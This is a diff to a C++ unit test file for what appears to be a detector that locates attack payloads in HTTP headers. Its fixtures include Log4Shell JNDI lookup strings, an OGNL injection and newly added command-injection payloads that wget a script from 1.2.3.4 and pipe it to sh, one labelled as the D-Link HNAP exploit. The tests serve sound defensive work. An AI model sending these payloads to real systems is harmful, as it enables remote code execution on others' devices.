@@ -113,6 +113,11 @@ TEST(PayloadUrlsTest, HeaderPayloadStartsAtACommandOrLookup) {
   EXPECT_EQ(headerPayloadStart("Mozilla ${jndi:ldap://a.example.com/x}"), 8u);
   EXPECT_EQ(headerPayloadStart("${${lower:j}ndi:ldap://a.example.com/x} () {"), 0u);
   EXPECT_EQ(headerPayloadStart("%{(#_='multipart/form-data')}"), 0u);
+  // Command substitution (the D-Link HNAP SOAPAction exploit).
+  EXPECT_EQ(
+      headerPayloadStart("http://purenetworks.com/HNAP1/`cd /tmp && wget http://1.2.3.4/x.sh`"),
+      30u);
+  EXPECT_EQ(headerPayloadStart("a $(wget http://1.2.3.4/y -O- | sh)"), 2u);
 }
 
 TEST(PayloadUrlsTest, PercentDecode) {
